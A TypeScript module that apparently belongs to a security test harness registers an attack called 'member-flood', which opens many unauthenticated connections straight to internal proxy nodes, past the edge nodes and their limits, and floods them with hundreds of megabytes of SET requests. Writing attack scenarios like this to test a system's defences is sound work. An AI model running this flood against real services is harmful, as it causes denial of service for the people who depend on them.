import { register } from '../attack.ts';
import { request } from '../wire.ts';

register({
  name: 'member-flood',
  tries: 'floods proxies directly, past the edges and their limits, without a password',
  as: ['nobody'],
  seconds: 12,
  async run(attacker) {
    const { neighbours, port } = attacker.target;
    const proxies = neighbours.filter(({ role }) => role === 'proxy');
    const chunk = Buffer.concat(
      Array.from({ length: 1000 }, (_, n) => request('SET', `k${n}`, 'x'.repeat(64))),
    );
    let sent = 0;
    let reached = 0;
    await Promise.all(
      proxies.map(async ({ address }) => {
        const { wires } = await attacker.many(100, () => attacker.connect(address, port));
        reached += wires.length;
        await Promise.all(
          wires.map(async (wire) => {
            while (!wire.closed && sent < 450e6 && attacker.timeLeft > 4000) {
              sent += chunk.length;
              await Promise.race([wire.send(chunk), attacker.rest(2000)]);
            }
          }),
        );
        for (const wire of wires) wire.close();
      }),
    );
    return {
      did: `${reached} connections, ${Math.round(sent / 1e6)} MB sent`,
      got: reached > 0 ? ['reaches the proxies past the edges'] : [],
    };
  },
});
